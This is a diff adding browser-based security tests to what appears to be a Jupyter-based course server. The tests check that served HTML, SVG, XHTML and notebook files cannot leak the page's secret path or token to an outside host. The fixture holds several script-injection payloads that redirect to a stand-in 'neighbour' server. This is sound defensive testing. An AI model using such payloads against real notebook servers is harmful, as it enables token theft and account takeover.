@@ -62,6 +62,16 @@ def stranger(his):
     return nbformat.v4.new_notebook(cells=cells, metadata=notebooks.METADATA)
 
 
+SENDS = "location.href = '{his}' + location.pathname.slice(1) + location.search"
+PAGES = {
+    "files/evil.html": "<h1>seen</h1><script>{sends}</script><img src='{his}?img'><body onload=\"{sends}\">",
+    "files/evil.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>{sends}</script><text y='20'>seen</text></svg>",
+    "files/evil.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'><body>seen<script>{sends}</script></body></html>",
+    "files/refresh.html": "<meta http-equiv='refresh' content='0; {his}?refresh'>seen",
+    "nbconvert/html/page.ipynb": "seen<script>{sends}</script>",
+}
+
+
 @pytest.fixture
 def served(tmp_path, neighbour):
     """The server, and a folder with a chapter and what a stranger sent."""
@@ -70,6 +80,13 @@ def served(tmp_path, neighbour):
     shutil.copy(notebooks.ROOT / "chapters" / CHAPTER, folder)
     nbformat.write(stranger(neighbour[0]), folder / "stranger.ipynb")
     (folder / "stranger.vg.json").write_text(json.dumps(vega(neighbour[0])))
+    for place, text in PAGES.items():
+        text = text.format(his=neighbour[0], sends=SENDS.format(his=neighbour[0]))
+        if place.endswith(".ipynb"):
+            outputs = [nbformat.v4.new_output("display_data", {"text/html": text})]
+            cell = nbformat.v4.new_code_cell("1", outputs=outputs, execution_count=1)
+            text = nbformat.writes(nbformat.v4.new_notebook(cells=[cell], metadata=notebooks.METADATA))
+        (folder / Path(place).name).write_text(text)
     (folder / "private.json").write_text('[{"answer": 42}]')
     command = ["tools.lab", "--allow-root", "--expose-app-in-browser", str(folder / CHAPTER)]
     with started(tmp_path, *command) as address:
@@ -103,6 +120,24 @@ def test_nothing_leaves_and_the_course_works(chromium, served, neighbour):
     assert outputs((served.folder / "stranger.ipynb").read_text()) == outputs(before), "a save loses no output"
     page.close()
     works(chromium, served)
+
+
+def test_a_page_of_his_that_is_opened_by_itself_sends_nothing(chromium, served, neighbour):
+    """It knows the secret path, from its own address; the browser would add the cookie."""
+    page = chromium.new_page()
+    page.goto(f"{served.url}/lab?token={served.token}", timeout=1000 * browser.SECONDS)
+    page.locator(".jp-FileBrowser").first.wait_for(timeout=1000 * browser.SECONDS)
+    for place in PAGES:
+        address = f"{served.url}/{place}"
+        with page.context.expect_event("response", lambda answer: answer.url == address) as answer:  # noqa: B023
+            with page.expect_popup() as opened:
+                page.evaluate("(address) => { window.open(address, '_blank') }", address)
+        assert answer.value.status == 200
+        page.wait_for_timeout(1000)
+        assert opened.value.url == address
+        opened.value.close()
+    assert not neighbour[1], "the stranger's server was asked"
+    page.close()
 
 
 def works(chromium, served):
